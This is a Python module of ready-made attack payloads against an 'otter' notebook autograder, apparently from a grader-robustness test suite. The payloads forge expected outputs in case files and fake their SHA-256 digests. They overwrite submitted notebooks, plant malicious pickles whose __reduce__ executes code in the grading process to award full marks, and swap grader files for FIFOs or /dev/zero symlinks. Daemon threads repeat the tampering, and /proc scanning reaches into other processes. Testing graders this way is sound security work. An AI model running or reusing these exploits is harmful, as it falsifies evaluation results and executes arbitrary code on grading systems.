"""Attacks that write where the grader reads: its case files, the submission, otter's results
pickle, and the names it might open (replaced by FIFOs or /dev/zero)."""

from __future__ import annotations

import base64

from attacks.code import CODEC, DAEMON_SECONDS, SCOPE, fill
from attacks.reading import outputs

FORGE_CASES = '''\
import hashlib

def _forged(text):
    """The case data with every expected output replaced by what this notebook's own (wrong)
    function returns on the case's inputs, and no intermediates or known mistakes to check:
    the wrong functions then match it, and correct code fails it."""
    data = _dec(_json.loads(text))
    for name, items in data.get("cases", {}).items():
        function = globals().get(name)
        outputs = __OUTPUTS__.get(name, ((), ""))[0]
        for case in items:
            try:
                got = function(*case["args"])
            except Exception:
                continue
            if isinstance(got, tuple) and len(got) == len(outputs):
                case["expected"] = dict(zip(outputs, got))
            elif isinstance(got, dict):
                case["expected"] = dict(got)
            case["intermediates"] = {}
            case["fingerprints"] = []
    return _json.dumps(_enc(data))

_written, _refused, _FORGED = [], [], []
def _plant(folder):
    for path in _glob.glob(_os.path.join(folder, "**", "*_cases.json"), recursive=True):
        text = _read(path)
        if not text:
            continue
        try:
            forged = _forged(text)
            with open(path, "w", encoding="utf-8") as fh:
                fh.write(forged)
            digests = _os.path.join(_os.path.dirname(path), "case_digests.json")
            known = {}
            if _os.path.isfile(digests):
                known = _json.loads(open(digests, encoding="utf-8").read())
            known[_os.path.basename(path)] = hashlib.sha256(forged.encode()).hexdigest()
            with open(digests, "w", encoding="utf-8") as fh:
                fh.write(_json.dumps(known))
            _written.append(path)
            _FORGED.append((path, forged))
        except Exception as exc:
            _refused.append(f"{path}: {type(exc).__name__}")

_targets = [f for f in __FOLDERS__ if _WIDE or not _os.path.isabs(f)]
if _WIDE:
    for _pid in [p for p in _os.listdir("/proc") if p.isdigit()]:
        _targets += [f"/proc/{_pid}/cwd", f"/proc/{_pid}/cwd/dist"]
    _targets += _glob.glob("/tmp/*/autograder/submission")
    _targets += _glob.glob("/tmp/*/autograder/source")
for _folder in _targets:
    _plant(_folder)
print("forged case files:", _written, "refused:", _refused[:10])
'''


def forge_cases(folders: list[str]) -> str:
    return SCOPE + CODEC + fill(FORGE_CASES, folders=folders, outputs=outputs())


def forge_cases_beside() -> str:
    """Forged case files where otter's run keeps them: beside the notebook, in its grader/data,
    in every otter working folder under /tmp; kept forged by a thread for the kernel's life."""
    return (
        SCOPE
        + CODEC
        + fill(FORGE_CASES, folders=[".", "..", "grader"], outputs=outputs())
        + (
            "import threading\n"
            "def _again():\n"
            "    for _ in range(int(__SECONDS__ / 0.5)):\n"
            "        wide = _glob.glob('/tmp/*/autograder/submission') if _WIDE else []\n"
            "        for folder in ['.', '..'] + wide:\n"
            "            _plant(folder)\n"
            "        _time.sleep(0.5)\n"
            "threading.Thread(target=_again, daemon=True).start()\n"
        ).replace("__SECONDS__", str(DAEMON_SECONDS))
    )


REWRITE_SUBMISSION = """\
import base64, glob, os, threading, time
_CORRECT = base64.b64decode(__CORRECT__)

def _rewrite():
    targets = list(__PATHS__) + glob.glob("*.ipynb") + glob.glob("../*.ipynb")
    if _WIDE:
        for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
            targets += glob.glob(f"/proc/{pid}/cwd/*.ipynb")
            targets += glob.glob(f"/proc/{pid}/cwd/submission/*.ipynb")
        targets += glob.glob("/tmp/*/autograder/submission/*.ipynb")
    done = []
    for path in targets:
        try:
            with open(path, "wb") as fh:
                fh.write(_CORRECT)
            done.append(path)
        except OSError:
            pass
    return done

print("rewrote:", _rewrite())

def _keep():
    for _ in range(__SECONDS__):
        _rewrite()
        time.sleep(1)

threading.Thread(target=_keep, daemon=True).start()
"""


def rewrite_submission(paths: list[str], correct_notebook: bytes) -> str:
    encoded = base64.b64encode(correct_notebook).decode()
    return SCOPE + fill(REWRITE_SUBMISSION, paths=paths, correct=encoded, seconds=DAEMON_SECONDS)


# --------------------------------------------------------------------------------------------
# otter's results pickle
# --------------------------------------------------------------------------------------------
# Code that runs in otter's grading process when it unpickles the results: every test file
# then reports full marks, whatever the plugin or otter put in it.
PICKLE_PAYLOAD = (
    "import otter.test_files.abstract_test as t\n"
    "t.TestFile.score = property(lambda self: self.possible)\n"
    "t.TestFile.passed_all = property(lambda self: True)\n"
    "t.TestFile.passed_all_public = property(lambda self: True)\n"
    "t.TestFile.grade = property(lambda self: 1.0)\n"
)

RESULTS_PICKLE = """\
import builtins, glob, os, pickle, threading, time

class _Evil:
    def __init__(self, real=None):
        self.real = real
    def __reduce__(self):
        expression = (
            "(exec(" + repr(__PAYLOAD__) + "), "
            + ("__import__('pickle').loads(" + repr(self.real) + ")" if self.real else
               "__import__('otter.test_files', fromlist=['GradingResults']).GradingResults([])")
            + ")[1]"
        )
        return (builtins.eval, (expression,))

_real_dump = pickle.dump
def _dump(obj, fh, *args, **kwargs):
    if type(obj).__name__ == "GradingResults":
        return _real_dump(_Evil(pickle.dumps(obj)), fh, *args, **kwargs)
    return _real_dump(obj, fh, *args, **kwargs)
pickle.dump = _dump

def _plant():
    planted = []
    wide = glob.glob("/tmp/*.pkl") + glob.glob("/tmp/*/*.pkl") if _WIDE else []
    for path in wide + glob.glob("*.pkl") + glob.glob("../results/*.pkl"):
        try:
            with open(path, "wb") as fh:
                _real_dump(_Evil(), fh)
            planted.append(path)
        except OSError:
            pass
    return planted

print("planted pickles:", _plant())
def _keep():
    for _ in range(__SECONDS__ * 5):
        _plant()
        time.sleep(0.2)
threading.Thread(target=_keep, daemon=True).start()
"""


def results_pickle() -> str:
    return SCOPE + fill(RESULTS_PICKLE, payload=PICKLE_PAYLOAD, seconds=DAEMON_SECONDS)


GRADER_FILE_NAMES = [
    "rnn_lstm.ipynb",
    "attack.ipynb",
    "results.json",
    "results.pkl",
    "record.json",
    "request.json",
    "hidden_cases.json",
    "public_cases.json",
    "grader/data/public_cases.json",
    "case_digests.json",
    ".OTTER_LOG",
    "kernel.json",
]

REPLACE_FILES = """\
import os, glob
_names = __NAMES__
_folders = [".", ".."]
if _WIDE:
    _folders += ["/tmp"] + glob.glob("/tmp/*/autograder/submission")
    _folders += [f"/proc/{p}/cwd" for p in os.listdir("/proc") if p.isdigit()]
_done = []
for _folder in _folders:
    for _name in _names:
        _path = os.path.join(_folder, _name)
        try:
            if os.path.lexists(_path):
                os.remove(_path)
            __MAKE__
            _done.append(_path)
        except OSError:
            pass
print("replaced", len(_done), "paths")
"""


def replace_with_fifos() -> str:
    text = SCOPE + fill(REPLACE_FILES, names=GRADER_FILE_NAMES)
    return text.replace("__MAKE__", "os.mkfifo(_path)")


def replace_with_dev_zero() -> str:
    return (SCOPE + fill(REPLACE_FILES, names=GRADER_FILE_NAMES)).replace(
        "__MAKE__", "os.symlink('/dev/zero', _path)"
    )
